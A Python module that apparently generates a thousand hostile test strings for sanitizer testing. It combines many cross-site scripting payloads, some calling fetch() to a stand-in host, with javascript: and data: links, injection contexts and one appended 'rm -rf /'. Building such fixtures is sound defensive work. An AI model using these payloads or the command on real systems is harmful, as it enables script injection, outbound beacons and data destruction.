"""A thousand hostile texts: what attacks a page, times where it stands in a text."""

import base64
from collections.abc import Iterator
from itertools import islice
from urllib.parse import quote

ELSEWHERE = "https://elsewhere.example"
# {n} is a number of its own for each text, {act} what a script would do.
ACT = "window.owned={n};fetch('" + ELSEWHERE + "/{n}');alert({n})"
MARKUP = (
    "<script>{act}</script>",
    "<ScRiPt src=" + ELSEWHERE + "/{n}.js></sCrIpT>",
    "<script type=module>import '" + ELSEWHERE + "/{n}.js'</script>",
    "<img src=" + ELSEWHERE + '/{n}.png onerror="{act}">',
    "<img src=x onerror='{act}'>",
    "<img srcset='" + ELSEWHERE + "/{n} 2x' loading=eager>",
    '<svg onload="{act}"><image href=\'' + ELSEWHERE + "/{n}'/></svg>",
    "<svg><script href='" + ELSEWHERE + "/{n}'/></svg>",
    "<svg><use href='" + ELSEWHERE + "/{n}#a'/></svg>",
    "<svg><animate attributeName=href values='javascript:{act}'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror='{act}'>",
    "<iframe src='javascript:{act}'></iframe>",
    '<iframe srcdoc="<script>parent.{act}</script>"></iframe>',
    "<object data='" + ELSEWHERE + "/{n}'></object>",
    "<embed src='data:text/html,<script>{act}</script>'>",
    "<link rel=stylesheet href=" + ELSEWHERE + "/{n}.css>",
    "<link rel=prefetch href="
    + ELSEWHERE
    + "/{n}><link rel=dns-prefetch href=//elsewhere.example>",
    "<style>@import '" + ELSEWHERE + "/{n}.css';*{{background:url(" + ELSEWHERE + "/{n})}}</style>",
    "<p style=\"background:url('" + ELSEWHERE + "/{n}')\">x</p>",
    "<base href='" + ELSEWHERE + "/{n}/'>",
    "<meta http-equiv=refresh content='0;url=" + ELSEWHERE + "/{n}'>",
    "<form action=" + ELSEWHERE + '/{n}><input autofocus onfocus="{act}"><button>ok</form>',
    '<details open ontoggle="{act}"><summary>x</details>',
    "<video poster=" + ELSEWHERE + '/{n} src=x onerror="{act}" autoplay></video>',
    "<audio src=" + ELSEWHERE + "/{n}.mp3 autoplay></audio>",
    '<body onload="{act}" background=' + ELSEWHERE + "/{n}>",
    "<a href='javascript:{act}' autofocus onfocus='{act}'>x</a>",
    "<div hx-get='" + ELSEWHERE + "/{n}' hx-trigger=load hx-on:load='{act}'>x</div>",
    "<div data-hx-get='/inbox/' data-hx-trigger='load' id=detail data-do=theme>x</div>",
    "<template shadowrootmode=open><script>{act}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror='{act}'>\">",
    "<textarea></title></style></script><img src=x onerror='{act}'>",
    '<isindex type=image src=1 onerror="{act}"><keygen autofocus onfocus="{act}">',
    "<!--><img src=x onerror='{act}'>--><![CDATA[<img src=x onerror='{act}'>]]>",
)
LINKS = (
    "[x](javascript:{act})",
    "[x](JaVaScRiPt:{act})",
    "[x](java\tscript:{act})",
    "[x](&#106;avascript:{act})",
    "[x](data:text/html;base64,{b64})",
    "[x](vbscript:msgbox)",
    "[x](//elsewhere.example/{n})",
    "[google.com](https://google.com@elsewhere.example/{n})",
    '[https://google.com](https://elsewhere.example/{n} "onclick={act}")',
    '[x](https://elsewhere.example/"onmouseover="{act})',
    "![x](" + ELSEWHERE + '/{n}.png "t")',
    "![x](javascript:{act})",
    "![<img src=x onerror={act}>](data:image/svg+xml;base64,{b64})",
    "<javascript:{act}>",
    "<https://elsewhere.example/{n}?<script>{act}</script>>",
    "[x]: javascript:{act}\n\n[x]",
)
PLACES = (
    "{}",
    "\"'>{}<\"'",
    "</span></dd></div>{}",
    "# {}",
    "- {}\n- two",
    "> {}",
    "| a | b |\n|---|---|\n| {} | 2 |",
    "```html\n{}\n```",
    "    {}",
    "`{}`",
    "**{}**",
    "\u202e{}\u202c",
    "a\u200b{}\u00ad",
    "{{{{ {} }}}} ${{7*7}} {{% include 'x' %}}",
    "</script></style></textarea></title>{}",
    "&lt;b&gt; {} &#60;i&#62;",
    "{}" + " " * 40 + "rm -rf /",
    "[{}](https://a.example)",
    "~~~svg {}\nx\n~~~",
    "x\r\n{}\r\ny",
)


def hostile_texts(count: int = 1000) -> list[str]:
    """So many different texts, each payload in turn through the places."""
    texts = list(dict.fromkeys(islice(_all(), count)))
    assert len(texts) == count
    return texts


def _all() -> Iterator[str]:
    number = 0
    for place in PLACES:
        for payload in (*MARKUP, *LINKS):
            number += 1
            act = ACT.format(n=number)
            b64 = base64.b64encode(f"<script>{act}</script>".encode()).decode()
            written = payload.format(n=number, act=act, b64=b64)
            yield place.format(quote(written) if number % 10 == 9 else written)
